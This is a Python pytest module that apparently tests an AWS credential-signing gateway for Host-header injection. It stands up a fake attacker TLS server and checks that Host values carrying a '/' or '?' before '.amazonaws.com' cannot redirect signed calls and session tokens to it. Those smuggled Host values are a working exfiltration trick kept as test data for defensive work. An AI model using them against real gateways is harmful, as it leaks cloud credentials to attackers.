"""Breaking the upstream choice: in production (`aws.upstream` empty) the gateway sends a call to
`https://{Host}{path}`, where Host is the agent's Host header. A Host that ends in
`.amazonaws.com` but carries a `/` (or `?`) earlier makes that URL's authority an address of the
agent's choosing: the re-signed call, with the session's Authorization and X-Amz-Security-Token,
goes to a host that is not AWS.

For this module the daemon runs as in production: `aws.upstream` is empty, names resolve from
the private hosts file to 127.0.0.2, where a TLS relay (certificate of the test CA, which is
`aws.upstream_ca_file`) stands in for AWS in front of moto. The "attacker" is a TLS server on
127.0.0.5:443 with a certificate for that address from the same CA (a real attacker uses a
publicly trusted certificate for their own domain).
"""

from __future__ import annotations

import json
import re
import socket
import ssl
import subprocess
import threading
from pathlib import Path

import pytest

import harness
from harness import Agents, Daemon, Moto, World, describe

pytestmark = pytest.mark.usefixtures("daemon_log")

EVIL_ADDRESS = "127.0.0.5"


def issue(world: World, directory: Path, name: str, san: str) -> tuple[Path, Path]:
    """A server certificate signed by the suite's test CA."""
    directory.mkdir(parents=True, exist_ok=True)
    key, csr, cert = directory / f"{name}.key", directory / f"{name}.csr", directory / f"{name}.pem"
    ext = directory / f"{name}.ext"
    ext.write_text(f"subjectAltName={san}\nbasicConstraints=critical,CA:FALSE\n"
                   "extendedKeyUsage=serverAuth\n")
    ca_key = world.ca.ca_cert.parent / "ca.key"
    harness.check_call(["openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                        "-nodes", "-keyout", str(key), "-out", str(csr), "-subj", f"/CN={name}"],
                       what=f"{name} key")
    harness.check_call(["openssl", "x509", "-req", "-in", str(csr), "-CA", str(world.ca.ca_cert),
                        "-CAkey", str(ca_key), "-CAcreateserial", "-out", str(cert), "-days", "1",
                        "-extfile", str(ext)], what=f"sign {name}")
    return cert, key


class TlsServer:
    """A threaded TLS server: `relay_to` set, a byte relay to that TCP address; else it keeps the
    first request head of each connection and answers 200 with an empty body."""

    def __init__(self, address: tuple[str, int], cert: Path, key: Path,
                 relay_to: tuple[str, int] | None = None) -> None:
        self.heads: list[str] = []
        self.relay_to = relay_to
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(str(cert), str(key))
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(address)
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stopped.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            threading.Thread(target=self.handle, args=(conn,), daemon=True).start()

    def handle(self, conn: socket.socket) -> None:
        try:
            tls = self.context.wrap_socket(conn, server_side=True)
        except (ssl.SSLError, OSError):
            conn.close()
            return
        if self.relay_to is None:
            self.answer(tls)
        else:
            self.relay(tls)

    def answer(self, tls: ssl.SSLSocket) -> None:
        tls.settimeout(10)
        data = b""
        try:
            while b"\r\n\r\n" not in data and (piece := tls.recv(65536)):
                data += piece
            self.heads.append(data.split(b"\r\n\r\n")[0].decode(errors="replace"))
            tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        except OSError:
            pass
        finally:
            tls.close()

    def relay(self, tls: ssl.SSLSocket) -> None:
        upstream = socket.create_connection(self.relay_to, timeout=30)

        def pump(source, sink) -> None:
            try:
                while data := source.recv(65536):
                    sink.sendall(data)
            except OSError:
                pass
            finally:
                for end in (sink, source):
                    try:
                        end.shutdown(socket.SHUT_RDWR)
                    except OSError:
                        pass

        back = threading.Thread(target=pump, args=(upstream, tls), daemon=True)
        back.start()
        pump(tls, upstream)
        back.join(30)

    def close(self) -> None:
        self.stopped.set()
        self.thread.join(5)
        self.sock.close()


@pytest.fixture(scope="module")
def production(world: World, daemon: Daemon, moto: Moto, tmp_path_factory):
    """The daemon with `aws.upstream` empty (AWS names -> the TLS relay in front of moto), and
    the attacker's server; the suite's configuration comes back afterwards."""
    directory = tmp_path_factory.mktemp("break-host")
    aws_cert, aws_key = issue(world, directory, "aws",
                              "DNS:*.amazonaws.com,DNS:*.us-east-1.amazonaws.com")
    evil_cert, evil_key = issue(world, directory, "evil", f"IP:{EVIL_ADDRESS}")
    aws = TlsServer((harness.AWS_ADDRESS, 443), aws_cert, aws_key, ("127.0.0.1", moto.port))
    evil = TlsServer((EVIL_ADDRESS, 443), evil_cert, evil_key)
    original = world.config.read_text()
    world.config.write_text(re.sub(
        r'(?m)^upstream = ".*"$',
        f'upstream = ""\nupstream_ca_file = "{world.ca.ca_cert}"', original, count=1))
    daemon.stop()
    daemon.start()
    try:
        yield evil
    finally:
        world.config.write_text(original)
        daemon.stop()
        daemon.start()
        aws.close()
        evil.close()


#: Sends one request over TLS to the EC2 name (SNI and connect through the redirect) with the
#: Host header given in argv[1]; prints the status line.
HOST_AGENT = r"""
import os, socket, ssl, sys
host = "ec2.us-east-1.amazonaws.com"
raw = socket.create_connection((host, 443), timeout=30)
tls = ssl.create_default_context(cafile=os.environ["AWS_CA_BUNDLE"]).wrap_socket(
    raw, server_hostname=host)
tls.sendall((f"GET /?Action=DescribeRegions&Version=2016-11-15 HTTP/1.1\r\nHost: {sys.argv[1]}"
             "\r\nConnection: close\r\n\r\n").encode())
answer = b""
while piece := tls.recv(65536):
    answer += piece
print(answer.split(b"\r\n")[0].decode(errors="replace"))
"""


def test_production_mode_serves_a_normal_call(
        production: TlsServer, agents: Agents, alice_token_file: Path):
    """The set-up itself works: a stock call goes through the relay to moto."""
    result = agents.aws(alice_token_file, "ec2", "describe-regions")
    assert result.returncode == 0, describe(result)


@pytest.mark.parametrize("host", [
    f"{EVIL_ADDRESS}/x.ec2.us-east-1.amazonaws.com",
    f"{EVIL_ADDRESS}?.ec2.us-east-1.amazonaws.com",
])
def test_a_host_header_never_sends_signed_credentials_to_a_non_aws_host(
        production: TlsServer, agents: Agents, alice_token_file: Path, host: str):
    before = len(production.heads)
    result = agents.run(alice_token_file, [str(harness.PYTHON), "-c", HOST_AGENT, host])
    leaked = production.heads[before:]
    assert not leaked, (f"the gateway sent a signed call to {EVIL_ADDRESS}:\n{leaked[0]}\n"
                        f"agent: {describe(result)}")
